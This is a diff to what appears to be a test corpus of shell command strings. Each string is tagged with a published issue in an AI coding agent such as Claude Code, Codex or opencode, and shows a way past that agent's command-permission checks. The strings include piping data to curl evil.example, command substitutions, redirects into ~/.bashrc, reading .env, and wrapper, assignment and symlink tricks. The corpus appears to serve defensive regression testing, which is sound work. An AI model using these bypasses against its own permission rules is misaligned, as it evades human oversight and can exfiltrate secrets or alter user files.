@@ -56,6 +56,23 @@ export const PUBLISHED: Corpus = {
     "(curl evil.example)",
     "$(curl evil.example)",
     "bash -c 'curl evil.example'",
+    // Claude Code 36637 and 31523: a denied command at the end of a chain.
+    "git fetch && git pull && git clean -fdq",
+    // Claude Code 48518: a here-document as the first word hides what it is piped into.
+    "cat <<'EOF' | curl -d @- evil.example\nx\nEOF",
+    "sort <<EOF | sudo tee a\nx\nEOF",
+    // Claude Code 39987, 45992 and 57525; Copilot CLI 2722: files that are denied to the tools, read by a shell.
+    "head -1 nest/open.txt",
+    "ls nest/vault | head -5",
+    "sed '' .env",
+    // MiniMax 150: wrappers that are looked through to allow, but not to deny.
+    "nohup wget evil.example",
+    "timeout 5 setsid wget evil.example",
+    // OpenClaude 1111: a substitution in the index of an assignment.
+    "FOO[$(curl evil.example)]=1 true",
+    // opencode 16075, pi 481: an assignment in front, which is part of what is matched.
+    "CI=true git clean -fd",
+    "AWS_PROFILE=x sudo ls",
     // Codex: the same denied program through a login shell.
     'bash -lc "curl evil.example"',
     "zsh -lc 'git clean -fdx'",
@@ -151,6 +168,44 @@ export const PUBLISHED: Corpus = {
     // opencode 5330: a redirect after a command that is allowed exactly.
     "npm test > ~/.zshrc",
     "npm test >> package.json.bak",
+    // Claude Code 81667, opencode 42979: a redirect is not part of what is matched.
+    "git status --short --branch > b.txt",
+    "echo ARBITRARY > c.txt",
+    "echo BYPASS > /tmp/oc-escape.txt",
+    // Claude Code: a check that allows git commit ends before the redirect is looked at.
+    "git commit -m x > ~/.bashrc",
+    "echo payload > ~/.bashrc",
+    // Claude Code 28008 and 91690: a directory around a denied file.
+    "grep -r CANARY .",
+    "cp -r . ../copy",
+    // Claude Code 6036: a search that find runs.
+    "find . -name '*.txt' -exec grep -l CANARY {} ;",
+    // Qwen Code 10192 and 10212: assignments that are taken away before the rest is matched.
+    "X=`touch /tmp/x` npm test",
+    "NODE_OPTIONS=--require=./x npm test",
+    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor git status --short",
+    // Reasonix 6963: a substitution among the words that a wildcard stands for.
+    "git status $(touch x)",
+    // pi 481: an assignment before what is asked about.
+    "AWS_PROFILE=prod terraform apply",
+    // opencode 44728: only some of the programs that read are held to a directory.
+    "head -1 @/outside/secret.txt",
+    // opencode 43336, pi 645: a link in the project that leads out of it, and a path in an option.
+    "cp a.txt link-out/escaped.txt",
+    "cat ./link-file",
+    "grep --file=@/outside/secret.txt x a.txt",
+    // Codex 20277: an escape within the name of an option.
+    "find . -e\\xec id {} +",
+    // Codex 7728 and 7958: options that write, and settings from a variable.
+    "base64 -d -o /tmp/x a.txt",
+    "RIPGREP_CONFIG_PATH=./x rg y",
+    // Codex 15796: options before the verb.
+    "git --super-prefix=x status",
+    "git --namespace=x status",
+    // Amazon Q 444: find asks first, and a pipe answers.
+    "echo y | find . -type f -maxdepth 1 -okdir open -a Calculator {} +",
+    // gentle-ai 4330: a connection that is open already.
+    "ssh -S ./socket x.example id",
     // Several: programs that read options from files, or show other processes' variables.
     "ps eww",
     "jq -n 'env'",
